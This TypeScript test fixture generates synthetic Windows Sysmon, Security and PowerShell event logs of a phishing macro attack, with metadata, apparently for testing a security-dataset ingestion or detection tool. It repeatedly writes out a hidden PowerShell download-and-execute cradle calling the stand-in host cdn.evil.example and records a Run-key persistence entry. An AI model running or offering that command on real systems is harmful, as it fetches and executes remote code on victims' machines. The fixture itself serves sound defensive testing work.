import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { scratchFolder, writeBytes, zipBytes } from './archives.ts';
import {
  guid,
  ndjson,
  powershellEvent,
  type RawRecord,
  securityEvent,
  sysmonEvent,
  sysmonProcessCreate,
} from './windows-events.ts';

export const HOST = 'WORKSTATION5.lab.local';
export const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
export const CMD = 'C:\\Windows\\System32\\cmd.exe';
export const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
export const ATTACK_COMMAND =
  "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('https://cdn.evil.example/stage.ps1')";
export const PAYLOAD_HASHES =
  'SHA1=1111111111111111111111111111111111111111,MD5=22222222222222222222222222222222,SHA256=3333333333333333333333333333333333333333333333333333333333333333';

/** A phishing document that starts PowerShell, plus the background a real host logs. */
export function phishingRecords(): RawRecord[] {
  return [
    sysmonProcessCreate({
      host: HOST,
      utc: '2024-03-01 09:59:00.000',
      processGuid: guid(50),
      pid: 5000,
      image: 'C:\\Windows\\System32\\svchost.exe',
      commandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
      parentGuid: guid(49),
      parentPid: 700,
      parentImage: 'C:\\Windows\\System32\\services.exe',
      user: 'NT AUTHORITY\\SYSTEM',
      integrityLevel: 'System',
    }),
    sysmonProcessCreate({
      host: HOST,
      utc: '2024-03-01 10:00:00.000',
      processGuid: guid(2),
      pid: 2000,
      image: WORD,
      commandLine: '"WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.docm"',
      parentGuid: guid(1),
      parentPid: 1000,
      parentImage: 'C:\\Windows\\explorer.exe',
      parentCommandLine: 'C:\\Windows\\Explorer.EXE',
    }),
    sysmonProcessCreate({
      host: HOST,
      utc: '2024-03-01 10:00:05.000',
      processGuid: guid(3),
      pid: 3000,
      image: CMD,
      commandLine: `cmd.exe /c ${ATTACK_COMMAND}`,
      parentGuid: guid(2),
      parentPid: 2000,
      parentImage: WORD,
    }),
    sysmonProcessCreate({
      host: HOST,
      utc: '2024-03-01 10:00:06.000',
      processGuid: guid(4),
      pid: 4000,
      image: POWERSHELL,
      commandLine: ATTACK_COMMAND,
      parentGuid: guid(3),
      parentPid: 3000,
      parentImage: CMD,
      integrityLevel: 'Medium',
    }),
    sysmonEvent(22, {
      host: HOST,
      utc: '2024-03-01 10:00:07.000',
      ProcessGuid: guid(4),
      ProcessId: '4000',
      Image: POWERSHELL,
      QueryName: 'cdn.evil.example',
      QueryStatus: '0',
      QueryResults: '::ffff:203.0.113.10;',
    }),
    sysmonEvent(3, {
      host: HOST,
      utc: '2024-03-01 10:00:08.000',
      ProcessGuid: guid(4),
      ProcessId: '4000',
      Image: POWERSHELL,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '10.0.0.5',
      SourcePort: '50123',
      DestinationIp: '203.0.113.10',
      DestinationPort: '443',
    }),
    sysmonEvent(11, {
      host: HOST,
      utc: '2024-03-01 10:00:09.000',
      ProcessGuid: guid(4),
      ProcessId: '4000',
      Image: POWERSHELL,
      TargetFilename: 'C:\\Users\\alice\\AppData\\Local\\Temp\\update.exe',
    }),
    sysmonProcessCreate({
      host: HOST,
      utc: '2024-03-01 10:00:10.000',
      processGuid: guid(5),
      pid: 5500,
      image: 'C:\\Users\\alice\\AppData\\Local\\Temp\\update.exe',
      commandLine: 'C:\\Users\\alice\\AppData\\Local\\Temp\\update.exe --install',
      parentGuid: guid(4),
      parentPid: 4000,
      parentImage: POWERSHELL,
      hashes: PAYLOAD_HASHES,
    }),
    sysmonEvent(13, {
      host: HOST,
      utc: '2024-03-01 10:00:11.000',
      ProcessGuid: guid(5),
      ProcessId: '5500',
      Image: 'C:\\Users\\alice\\AppData\\Local\\Temp\\update.exe',
      EventType: 'SetValue',
      TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
      Details: 'C:\\Users\\alice\\AppData\\Local\\Temp\\update.exe',
    }),
    sysmonEvent(7, {
      host: HOST,
      utc: '2024-03-01 10:00:12.000',
      ProcessGuid: guid(50),
      ProcessId: '5000',
      Image: 'C:\\Windows\\System32\\svchost.exe',
      ImageLoaded: 'C:\\Windows\\System32\\taskschd.dll',
    }),
    // Security and PowerShell clocks run four hours behind, as in several OTRF sets.
    securityEvent(4624, {
      host: HOST,
      timeCreated: '2024-03-01 06:00:13.000',
      LogonType: '2',
      TargetUserName: 'alice',
      TargetDomainName: 'LAB',
      IpAddress: '-',
      ProcessId: '0x3e8',
      ProcessName: 'C:\\Windows\\System32\\winlogon.exe',
    }),
    securityEvent(4658, { host: HOST, timeCreated: '2024-03-01 06:00:14.000' }),
    powershellEvent(4104, {
      host: HOST,
      timeCreated: '2024-03-01 06:00:15.000',
      ExecutionProcessID: 4000,
      ScriptBlockText:
        "IEX (New-Object Net.WebClient).DownloadString('https://cdn.evil.example/stage.ps1')",
    }),
  ].map((record) =>
    record.Channel === 'Microsoft-Windows-Sysmon/Operational'
      ? { ...record, TimeCreated: shiftHours(String(record.UtcTime), -4) }
      : record,
  );
}

function shiftHours(utc: string, hours: number): string {
  const time = Date.parse(`${utc.replace(' ', 'T')}Z`) + hours * 3_600_000;
  return new Date(time).toISOString().replace('T', ' ').replace('Z', '');
}

export const METADATA_YAML = [
  'title: Phishing macro starts PowerShell',
  'id: SDWIN-240301100000',
  'description: A macro document runs an encoded download cradle.',
  'attack_mappings:',
  '  - technique: T1204',
  '    sub-technique: "002"',
  '    tactics: [TA0002]',
  '  - technique: T1086',
  '    sub-technique:',
  '    tactics: [TA0002]',
  '  - technique: T1547',
  '    sub-technique: 1',
  '    tactics: [TA0003, TA0004]',
  'files:',
  '- type: Host',
  '  link: https://raw.githubusercontent.com/OTRF/Security-Datasets/master/datasets/atomic/windows/execution/host/phish.zip',
  'simulation:',
  '  adversary_view: |-',
  `    PS C:\\Users\\alice> ${ATTACK_COMMAND}`,
  '    [*] stage 2 running',
].join('\n');

export interface SampleLayout {
  datasetsRoot: string;
  hostFolder: string;
  recordingPath: string;
}

/**
 * `<root>/otrf/datasets/atomic/{_metadata,windows/execution/host}` with the phishing
 * recording zipped as upstream ships it, plus `extra` lines appended to its NDJSON.
 */
export function writeSampleLayout({
  records = phishingRecords(),
  extraLines = [],
  withMetadata = true,
}: {
  records?: RawRecord[];
  extraLines?: string[];
  withMetadata?: boolean;
} = {}): SampleLayout {
  const datasetsRoot = scratchFolder();
  const atomic = join(datasetsRoot, 'otrf', 'datasets', 'atomic');
  const hostFolder = join(atomic, 'windows', 'execution', 'host');
  mkdirSync(hostFolder, { recursive: true });
  if (withMetadata) {
    mkdirSync(join(atomic, '_metadata'));
    writeBytes(join(atomic, '_metadata'), 'SDWIN-240301100000.yaml', METADATA_YAML);
  }
  const text = ndjson(records) + extraLines.map((line) => `${line}\n`).join('');
  const recordingPath = writeBytes(hostFolder, 'phish.zip', zipBytes({ 'phish_2024.json': text }));
  return { datasetsRoot, hostFolder, recordingPath };
}
